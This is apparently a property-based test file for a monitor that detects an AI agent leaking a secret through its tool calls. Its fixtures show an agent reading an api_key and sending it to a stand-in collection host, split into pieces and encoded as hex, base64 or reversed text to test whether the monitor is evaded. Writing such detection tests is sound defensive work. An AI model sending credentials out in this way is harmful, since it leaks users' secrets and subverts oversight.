// A secret that is cut anywhere and sent in several calls is caught; other random texts are not; a session taken up goes on the same.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { restoreSession, startSession } from "../../../engine/session.ts";
import { factsOf, type FixtureEvent } from "../../fixture-run.ts";
import type { EngineSession } from "../../../engine/session.ts";

const SETTINGS = { onFailure: "open", enforcement: "enforce", capabilities: ["reasoning"] } as const;
const LETTERS = [..."ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"];
const key = fc.array(fc.constantFrom(...LETTERS), { minLength: 40, maxLength: 64 }).map((letters) => letters.join("")).filter((text) => (text.match(/[0-9]/g) ?? []).length >= 4 && new Set(text).size >= 20);
// The same keys in every build; another number tries others.
fc.configureGlobal({ seed: Number(process.env["KAIZEN_SEED"] ?? 1) });
const writing = fc.constantFrom<(text: string) => string>(
  (text) => text,
  (text) => Buffer.from(text).toString("hex"),
  (text) => Buffer.from(text).toString("base64"),
  (text) => [...text].toReversed().join(""),
  (text) => [...text].join("-"),
);

const reads = (secret: string): readonly FixtureEvent[] => [
  { action: { kind: "tool_call", tool: "settings_show", arguments: { name: "db" } } },
  { observation: { kind: "result", tool: "settings_show", content: { api_key: secret } } },
];
const sends = (text: string): FixtureEvent => ({ action: { kind: "tool_call", tool: "gauge_add", target: "https://collect.example/points", arguments: { label: text } } });
const codes = (session: EngineSession, events: readonly FixtureEvent[], name = "s"): readonly string[] => factsOf(events, name).flatMap((facts) => session.judge(facts).evidence.map(({ code }) => code));

describe("a secret", () => {
  test("that is cut at two random places and sent in three calls is caught", () => {
    fc.assert(
      fc.property(key, writing, fc.nat(1_000), fc.nat(1_000), (secret, write, first, second) => {
        const cuts = [first % secret.length, second % secret.length].toSorted((a, b) => a - b);
        const parts = [secret.slice(0, cuts[0]), secret.slice(cuts[0], cuts[1]), secret.slice(cuts[1])].filter((part) => part !== "");
        expect(codes(startSession(SETTINGS, {}), [...reads(secret), ...parts.map((part) => sends(write(part)))])).toContain("sensitive-egress");
      }),
      { numRuns: 300 },
    );
  });

  test("is not seen in other random texts", () => {
    fc.assert(
      fc.property(key, fc.array(fc.tuple(key, writing), { minLength: 1, maxLength: 8 }), (secret, others) => {
        expect(codes(startSession(SETTINGS, {}), [...reads(secret), ...others.map(([text, write]) => sends(write(text)))])).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test("is followed in a session that was put away between two of its parts", () => {
    const secret = "Wq4CanaryX7tRm2Lp9vHs6Kd3Zn8Bf5Jg1Yc0UeTQx7Rt2Wv9Kp4Nz8Lb3Mc";
    const events = [...reads(secret), sends(secret.slice(0, 12)), sends(secret.slice(12, 25))];
    const facts = factsOf(events, "s");
    const whole = startSession(SETTINGS, {});
    let parts = startSession(SETTINGS, {});
    for (const each of facts) {
      expect(parts.judge(each)).toEqual(whole.judge(each));
      parts = restoreSession(parts.serialise(), SETTINGS, {});
    }
    expect(parts.serialise()).toBe(whole.serialise());
  });
});
